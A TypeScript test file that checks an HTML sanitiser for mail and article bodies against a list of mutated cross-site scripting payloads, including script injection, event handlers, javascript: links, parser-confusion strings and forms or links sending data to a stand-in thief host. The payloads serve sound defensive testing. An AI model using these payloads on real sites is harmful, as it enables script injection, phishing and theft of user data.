import { describe, expect, it } from 'vitest'
import { assainirArticle, assainirMail, imagesRelatives } from './assainir-html.ts'

const HREF = String.raw`(?:https?:\/\/|mailto:|tel:)[^"\s{}<>]+|\{\{lien\}\}|\{\{adressePortail\}\}(?:\/[^"\s{}<>]*)?|tel:\{\{regie(?:Telephone|Urgence)\}\}`
/** The whole grammar of a cleaned body, written apart from the cleaner. */
const BALISE = new RegExp(
  [
    String.raw`<\/?(?:h[1-3]|p|strong|em|u|s|ul|ol|li|blockquote)>`,
    String.raw`<(?:br|hr) \/>|<\/a>`,
    `<a(?: href="(?:${HREF})")?>`,
    String.raw`<img src="\{\{adressePortail\}\}(?:\/[\w~%-][\w.~%-]*)+" alt="[^"<>]*" \/>`,
  ].join('|'),
  'gi',
)
/** The same for an article: its links may lead to screens and files of the site, its images are paths of the site. */
const HREF_ARTICLE = String.raw`(?:https?:\/\/|mailto:|tel:)[^"\s{}<>]+|#\/[\w.\/?=&;%~-]*|\/(?![\/\\])[^"\s{}<>\\]*`
const BALISE_ARTICLE = new RegExp(
  [
    String.raw`<\/?(?:h[23]|p|strong|em|u|s|ul|ol|li|blockquote)>`,
    String.raw`<(?:br|hr) \/>|<\/a>`,
    `<a(?: href="(?:${HREF_ARTICLE})")?>`,
    String.raw`<img src="(?:\/[\w~%-][\w.~%-]*)+" alt="[^"<>]*" \/>`,
  ].join('|'),
  'gi',
)
/** What is left once all that a mail may hold is taken away: any other markup. */
const reste = (html: string, balise = BALISE): string => html.replace(balise, '').replace(/[^<\0]*/, '')

const CHARGES = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onerror="alert(1)" ONLOAD=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//voleur.exemple">x</a>',
  '<a href="\\\\voleur.exemple">x</a>',
  '<a href="{{nomComplet}}">x</a>',
  '<a href="javascript:{{lien}}">x</a>',
  '<a href="{{lien}}@voleur.exemple">x</a>',
  '<a href="{{adressePortail}}.voleur.exemple">x</a>',
  '<a href="https://voleur.exemple/?n={{nomComplet}}">x</a>',
  '<a href="x" style="background:url(javascript:alert(1))" onclick=alert(1) target=_blank>x</a>',
  '<p style="position:fixed;inset:0">x</p><p class="bouton" id="a">x</p>',
  '<style>*{display:none}</style><link rel=stylesheet href=//voleur.exemple><base href="//voleur.exemple">',
  '<iframe src="https://voleur.exemple"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><meta http-equiv=refresh content="0;url=//voleur.exemple">',
  '<form action="https://voleur.exemple"><input name=motDePasse><button>Envoyer</button></form>',
  '<img src="https://voleur.exemple/pixel.gif"><img src="//voleur.exemple/p.gif"><img src="data:image/svg+xml,<svg/onload=alert(1)>">',
  '<img src="/../webapi/Acces/releaseMe"><img src="/webapi/x?y"><img srcset="https://voleur.exemple/a 2x" src="/a.png">',
  '<video src=x onerror=alert(1)><source src=x></video><audio src=x>',
  '<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
  '<p>a</p\u0000><scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<details open ontoggle=alert(1)><marquee onstart=alert(1)>',
  '"><img src=x onerror=alert(1)><p title=\'"><script>alert(1)</script>\'>',
  '<a href="https://a.fr/"><img src="/a.png" alt="&quot; onerror=alert(1) x=&quot;"></a>',
] as const

/** Mutations that parsers and filters read differently. */
const MUTATIONS: readonly ((charge: string) => string)[] = [
  (charge) => charge,
  (charge) => charge.toUpperCase(),
  (charge) => charge.replaceAll('<', '<\n').replaceAll(' ', '\f'),
  (charge) => charge.replaceAll(' ', '/'),
  (charge) => `<p>${charge}<b>`,
  (charge) => `<ul><li>${charge}</ul></p></li>`,
  (charge) => charge.replaceAll('>', '>\u00a0<!-- -->'),
  (charge) => charge.slice(0, -1),
  (charge) => charge.replaceAll('"', "'"),
  (charge) => charge.replaceAll('"', '`'),
  (charge) => `<textarea>${charge}</textarea><title>${charge}`,
]

describe('mutated attacks on the HTML of mails and articles (S19)', () => {
  it.each(CHARGES)('%s', (charge) => {
    for (const muter of MUTATIONS) {
      const propre = assainirMail(muter(charge))
      expect(reste(propre)).toBe('')
      expect(assainirMail(propre)).toBe(propre)
      const article = assainirArticle(muter(charge))
      expect(reste(article, BALISE_ARTICLE)).toBe('')
      expect(assainirArticle(article)).toBe(article)
    }
  })

  it('negative control: without the cleaning, each of them is seen', () => {
    expect(CHARGES.filter((charge) => reste(charge) === '')).toEqual([])
    expect(CHARGES.filter((charge) => reste(charge, BALISE_ARTICLE) === '')).toEqual([])
  })
})

it('keeps what a mail is made of', () => {
  const corps =
    '<h1>Titre</h1><p>Un <strong>mot</strong> et <em>un autre</em>,<br />puis <a href="{{lien}}">le lien</a>.</p>' +
    '<ul><li>un</li></ul><ol><li>deux</li></ol><hr /><blockquote>note</blockquote>' +
    '<p><a href="https://exemple.fr/a?b=1&amp;c=2">web</a> <a href="mailto:a@b.fr">mail</a> <a href="tel:{{regieTelephone}}">tél.</a> <a href="{{adressePortail}}/#/faq">faq</a></p>'
  expect(assainirMail(corps)).toBe(corps)
  expect(assainirMail('<b>a</b><i>b</i><a href="{{ lien }}">c</a>')).toBe(
    '<strong>a</strong><em>b</em><a href="{{lien}}">c</a>',
  )
})

it('[admin-mail-images] [mail-body] images are stored below the placeholder of the site and shown as its paths', () => {
  const stocke = assainirMail('<p><img src="/images/compteur.png" alt="Compteur"></p>')
  expect(stocke).toBe('<p><img src="{{adressePortail}}/images/compteur.png" alt="Compteur" /></p>')
  expect(imagesRelatives(stocke)).toBe('<p><img src="/images/compteur.png" alt="Compteur" /></p>')
  expect(assainirMail(imagesRelatives(stocke))).toBe(stocke)
})

it('keeps what an article is made of; its h1 is the title of the page', () => {
  const corps =
    '<h2>Titre</h2><p>Voir <a href="#/conso?periode=2026">mes volumes</a>, <a href="/fichiers/guide.pdf">le guide</a>, <a href="https://exemple.fr/">un site</a>.</p><img src="/visuels/fuite.svg" alt="" />'
  expect(assainirArticle(corps)).toBe(corps)
  expect(assainirArticle('<h1>Titre</h1>')).toBe('<h2>Titre</h2>')
  expect(assainirArticle('<a href="{{lien}}">x</a><a href="/\\\\voleur.exemple">y</a>')).toBe('<a>x</a><a>y</a>')
})
